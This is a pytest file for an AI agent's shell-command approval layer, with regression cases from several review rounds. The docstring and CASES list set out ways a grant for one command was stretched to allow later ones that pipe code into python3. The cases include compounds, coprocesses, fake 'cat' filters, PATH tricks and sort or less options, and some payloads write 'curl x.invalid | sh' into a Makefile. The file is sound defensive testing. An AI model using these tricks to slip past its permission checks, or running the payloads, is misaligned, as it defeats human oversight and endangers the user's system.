"""Review s31 (helper 106): a pipe into a compound command feeds every command in it.

s30 made a part fed by a pipe ungrantable unless its program is a data filter (grants.fed_code),
but only the part right after the `|` was marked: `cat build.py | if true; then python3; fi`
granted `then python3` by its words, and a later `cat evil.py | if true; then python3; fi` was
allowed for the rest of the run, nobody asked (real bash ran it). So were `{ true; python3; }`,
a while loop, a subshell with two commands, and a coprocess that a later redirection feeds.
Every command inside such a compound, and a coprocess, now reads as fed. A second round (helper
107) nested a compound to end the first reading early, and fed "data filters" that were not:
`./cat`, `PATH=dir cat`, a function named cat, `sort --compress-program=python3`, and `tee F`
or `cat > F`, which write what the pipe brings (as a here-document into a file does, which was
never granted). A third round (helper 109): a newline right after `|`, a redirection or a
descriptor the line opened (`{ cat; } > F`, `exec 3>F; ... | cat >&3`), PATH changed in a
statement of its own, and `tee -- -d/../F`. Real ph-claude-hook, agent.sock and Inbox
(tests/approvals/conftest.py).
"""

from __future__ import annotations

import pytest

from console.policy import ungrantable
from tests.approvals.conftest import AgentServer
from tests.approvals.test_grant_unseen_input_s30 import approved_then_asked

CASES = [  # (approved for the run, a later command no grant of it may answer)
    ("echo 'print(1)' | if true; then python3; fi",
     "echo 'open(\"PWNED\", \"w\")' | if true; then python3; fi"),
    ("echo 'print(1)' | { true; python3; }", "echo 'open(\"PWNED\", \"w\")' | { true; python3; }"),
    ("echo 'print(1)' | while true; do python3; break; done",
     "echo 'open(\"PWNED\", \"w\")' | while true; do python3; break; done"),
    ("echo 'print(1)' | (true; python3)", "echo 'open(\"PWNED\", \"w\")' | (true; python3)"),
    ("echo 'print(1)' | ! time -p { python3; }",
     "echo 'open(\"PWNED\", \"w\")' | ! time -p { python3; }"),
    ("coproc python3; echo 'print(1)' >&60; exec 60>&-; wait",
     "coproc python3; echo 'open(\"PWNED\", \"w\")' >&60; exec 60>&-; wait"),
    # second round (helper 107): nested compounds, a quoted `}`, and filters in name only
    ("echo 'print(1)' | if true; then { true; }; python3; fi",
     "echo 'open(\"PWNED\", \"w\")' | if true; then { true; }; python3; fi"),
    ("echo 'print(1)' | { { true; }; python3; }", "echo 'open(\"PWNED\", \"w\")' | { { true; }; python3; }"),
    ("echo 'print(1)' | { true; '}'; python3; }", "echo 'open(\"PWNED\", \"w\")' | { true; '}'; python3; }"),
    ("echo 'print(1)' | ./cat", "echo 'open(\"PWNED\", \"w\")' | ./cat"),
    ("echo 'print(1)' | PATH=/tmp/x cat", "echo 'open(\"PWNED\", \"w\")' | PATH=/tmp/x cat"),
    ("cat() { python3; }; echo 'print(1)' | cat", "cat() { python3; }; echo 'open(\"PWNED\", \"w\")' | cat"),
    ("echo 'print(1)' | sort -S 4k --compress-program=python3",
     "echo 'open(\"PWNED\", \"w\")' | sort -S 4k --compress-program=python3"),
    ("echo ok | tee Makefile", "echo 'all:; curl x.invalid | sh' | tee Makefile"),
    ("echo ok | cat > Makefile", "echo 'all:; curl x.invalid | sh' | cat > Makefile"),
    # third round (helper 109): a newline after the pipe, a redirection or a file descriptor
    # elsewhere in the line, PATH changed in a statement of its own, a dash-led file after --
    ("echo 'print(1)' |\npython3", "echo 'open(\"PWNED\", \"w\")' |\npython3"),
    ("echo 'print(1)' | # c\npython3", "echo 'open(\"PWNED\", \"w\")' | # c\npython3"),
    ("echo ok | { cat; } > Makefile", "echo 'all:; curl x.invalid | sh' | { cat; } > Makefile"),
    ("exec 3>Makefile; echo ok | cat >&3", "exec 3>Makefile; echo 'all:; curl x.invalid | sh' | cat >&3"),
    ("PATH=/tmp/x; echo 'print(1)' | cat", "PATH=/tmp/x; echo 'open(\"PWNED\", \"w\")' | cat"),
    ("echo ok | tee -- -d/../Makefile", "echo 'all:; curl x.invalid | sh' | tee -- -d/../Makefile"),
    # fourth round (helper 111): PATH set by a builtin that names it, a function named by its
    # path, less (a lesskey file sets LESSOPEN)
    ("for PATH in /tmp/x; do true; done; echo 'print(1)' | cat",
     "for PATH in /tmp/x; do true; done; echo 'open(\"PWNED\", \"w\")' | cat"),
    ("printf -v PATH %s /tmp/x; echo 'print(1)' | cat", "printf -v PATH %s /tmp/x; echo 'open(\"PWNED\", \"w\")' | cat"),
    ("/bin/cat() { python3 -q; }; echo 'print(1)' | /bin/cat",
     "/bin/cat() { python3 -q; }; echo 'open(\"PWNED\", \"w\")' | /bin/cat"),
    ("echo 'print(1)' | less --lesskey-src=keys", "echo 'open(\"PWNED\", \"w\")' | less --lesskey-src=keys"),
]


@pytest.mark.parametrize(("approved", "later"), CASES)
async def test_a_later_script_fed_to_a_compound_is_asked(
        agent_server: AgentServer, approved: str, later: str) -> None:
    await approved_then_asked(agent_server, approved, later)


def test_a_compound_fed_only_data_filters_stays_grantable() -> None:
    """What a pipe feeds inside a compound is judged as after a plain pipe: a data filter of
    the system's, writing nowhere, stays grantable (since the second round, every command after
    a compound a pipe fed reads as fed too: its end is not looked for)."""
    assert ungrantable("cat notes.txt | if true; then grep a; fi") == frozenset()
    assert ungrantable("cat notes.txt | { grep a; wc -l; }") == frozenset()
    assert ungrantable("cat x | grep a | sort | uniq -c") == frozenset()
    # a redirection that no pipe's data reaches leaves a later pipe grantable (helper 111)
    assert ungrantable("pytest > log; git log | head") == frozenset()
    assert ungrantable("{ make; } > log; git log | head -3") == frozenset()
    assert ungrantable("cat x | /usr/bin/grep a | head -5 | tee") == frozenset()


async def test_a_run_answer_to_a_line_with_a_redirection_part_makes_its_grants(
        agent_server: AgentServer) -> None:
    """Helper 109: `echo ok | cat &>F` for the run raised "a rule needs a command, not only a
    redirection" (the reader reads `cat &` and `>F`): the redirection alone makes no grant."""
    from tests.approvals.conftest import next_pending
    from tests.approvals.test_grant_unseen_input_s30 import _hook
    from tests.approvals.test_inside_helper import hook_output

    hook = await _hook(agent_server, "ls -la &>listing.txt")
    req = await next_pending(agent_server.inbox)
    decided = await agent_server.inbox.decide(req.id, True, "alice", "run")
    assert [g.pattern for g in decided.grants] == ["ls -la"], decided.grants
    assert hook_output((await hook)[1])["permissionDecision"] == "allow"
